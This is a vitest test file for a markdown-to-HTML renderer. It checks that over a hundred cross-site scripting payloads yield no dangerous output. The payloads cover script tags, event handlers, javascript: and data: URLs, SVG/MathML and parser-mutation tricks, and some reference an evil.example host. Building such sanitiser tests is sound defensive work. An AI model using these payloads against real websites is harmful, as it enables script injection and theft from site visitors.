import {describe, expect, it} from 'vitest'
import {renderBody} from '../../../5-render/markdown/body.ts'
import {articleOf, dangersIn, html} from './support.ts'

/** Markdown that would run something, load something, or take over the page where raw HTML is passed on. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  elements: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    'text <script>alert(1)</script> text',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<style>*{display:none}</style>',
    '<style>@import "//evil.example/x.css"</style>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset onload="alert(1)"><frame src="x"></frameset>',
    '<object data="x.swf"><param name="a" value="b"></object>',
    '<embed src="x.svg">',
    '<applet code="X"></applet>',
    '<form action="https://evil.example"><input name="p"><button>ok</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<input autofocus onfocus=alert(1)>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<video src="x" onerror="alert(1)"><source onerror="alert(1)"></video>',
    '<audio src="x" autoplay onplay="alert(1)">',
    '<marquee onstart="alert(1)">x</marquee>',
    '<portal src="https://evil.example"></portal>',
    '<dialog open>x</dialog>',
    '<body onload="alert(1)">',
    '<html onclick="alert(1)"><head><title>x</title></head>',
    '<x-element onclick="alert(1)">x</x-element>',
  ],
  handlers: [
    '<p onclick="alert(1)">x</p>',
    '<img src=x onerror=alert(1)>',
    '<img src=x oNeRrOr=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    '<img src="x` `"onerror=alert(1)>',
    '<img src=x:x onerror\n=\nalert(1)>',
    '<img src=x onerror&equals;alert(1)>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="#" onmouseover="alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<b class="x" onanimationstart="alert(1)">x</b>',
    '<td background="javascript:alert(1)">x</td>',
    '<a href="x" target="_blank" ping="https://evil.example">x</a>',
    '<img srcset="javascript:alert(1) 1x" src="a.png">',
    '<img usemap="#m" src="a.png"><map name="m"><area href="javascript:alert(1)"></map>',
    '<table background="x" onload=alert(1)><tr><td>x</td></tr></table>',
    '<p contenteditable accesskey="x" onfocus="alert(1)">x</p>',
    '<a href="x" is="evil" slot="y" part="z" itemprop="q" nonce="1">x</a>',
  ],
  urls: [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](&#x6A;&#x61;vascript:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](java&NewLine;script:alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](&#32;javascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](\\javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](blob:https://evil.example/1)',
    '[x](view-source:javascript:alert(1))',
    '[x](livescript:alert(1))',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![x](data:image/png;base64,AAAA)',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[x]\n\n[x]: javascript:alert(1)',
    '![x]\n\n[x]: data:text/html,x',
    '<a href="javascript:alert(1)">x</a>',
    "<a href='  javascript:alert(1)'>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=javascript:alert(1)>x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="https:javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="mailto:x@y.z">',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img longdesc="javascript:alert(1)" src="x.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '[x](javascript://%0aalert(1) "y")',
    '[a](<javascript:alert(1)> \'" onclick="alert(1)\')',
    '[x](x.md \'" onmouseover="alert(1)\')',
    '![" onerror="alert(1)](x.png)',
    '`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``',
  ],
  'foreign content': [
    '<svg onload="alert(1)"></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#x"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<template><img src=x onerror=alert(1)></template>text',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<textarea>\n<script>alert(1)</script>',
    '<plaintext><script>alert(1)</script>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><script>alert(1)</script>"></noframes>',
    '<select><option><script>alert(1)</script></select>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></svg><![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<!DOCTYPE html><script>alert(1)</script>',
    '<a href="x"><table><a href="javascript:alert(1)">x</a></table></a>',
    '<table><td><form><table><script>alert(1)</script>',
    '<p><svg><p><style><!--</style><img src=x onerror=alert(1)>-->',
    '<div><p title="a\n\n</div><img src=x onerror=alert(1)>">',
    '<a title="`">`<img src=x onerror=alert(1)>`</a>',
    '| <script> | <img src=x onerror=alert(1)> |\n|--|--|\n| </script> | <svg onload=alert(1)> |',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '```html\n</code></pre><script>alert(1)</script>\n```',
    '# <img src=x onerror=alert(1)> {#"onclick="alert(1)}',
    '# x {/*"><script>alert(1)</script>*/}',
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    '> [!NOTE"><script>alert(1)</script>]\n> x',
  ],
  'getting out': [
    '</article></main><p>x</p>',
    '</div></div></div></section></body></html>',
    '<div><div><div>',
    '<b><i><u><s>',
    '<a href="x">',
    '<table><tr><td>',
    '</p></p></p>',
    '<ul><li><ul><li></article>',
    '<h1><h2><h3></article>',
    '<details><summary></article></main>',
    '<ruby><rt><rp></article>',
    '<p><table><p><tr></article><td>',
    '<blockquote>\n\n</main>\n\n> </article>',
    '<td></td><tr></tr><caption>x</caption><col>',
    '<li>x</li></ul></ol><dd>x</dd>',
  ],
}

describe.each(Object.entries(attacks))('%s', (_, cases) => {
  it.each(cases)('%j does nothing', (markdown) => {
    const out = html(markdown)
    expect(dangersIn(out)).toEqual([])
  })

  it.each(cases)('%j does nothing inside other text', (markdown) => {
    const out = html(`- before ${markdown}\n\n  > ${markdown.replaceAll('\n', '\n  > ')}\n\n${markdown}\n\nafter`)
    expect(dangersIn(out)).toEqual([])
  })
})

it('counts more than a hundred attacks', () => {
  expect(Object.values(attacks).flat().length).toBeGreaterThan(100)
})

describe('whatever links are answered', () => {
  const hostile = [
    'javascript:alert(1)',
    ' java\nscript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    '\\\\evil.example',
    '"><script>alert(1)</script>',
  ]

  it.each(['page', 'file', 'external', 'anchor'] as const)('an answer of kind %s cannot bring a scheme in', (kind) => {
    for (const href of hostile) {
      const {html: out} = renderBody({markdown: '[x](x.md) ![y](y.png)', title: ''}, () => ({kind, href}))
      expect(dangersIn(out)).toEqual([])
      const hosts = articleOf(out).map(({properties}) => String(properties.href ?? properties.src ?? ''))
      if (kind !== 'external') expect(hosts.filter((url) => /^[\\/]{2}/.test(url))).toEqual([])
    }
  })

  it('a scheme that no page may open is not even asked about', () => {
    const asked: string[] = []
    const markdown =
      '[a](javascript:x) ![b](data:x) ![c](mailto:d) <a href="java\nscript:x">e</a> [f](g.md) <tel:1> ![h](https://i)'
    renderBody({markdown, title: ''}, (url, use) => {
      asked.push(`${use} ${url}`)
      return {kind: 'external', href: 'https://x.example'}
    })
    expect(asked).toEqual(['link g.md', 'link tel:1', 'image https://i'])
  })

  it('a reason with markup in it stays text', () => {
    const message = '"><script>alert(1)</script>'
    const {html: out} = renderBody({markdown: '[x](x.md)', title: ''}, () => ({kind: 'broken', rule: message, message}))
    expect(dangersIn(out)).toEqual([])
    expect(articleOf(out).map(({tagName}) => tagName)).toEqual(['p', 'span'])
  })
})
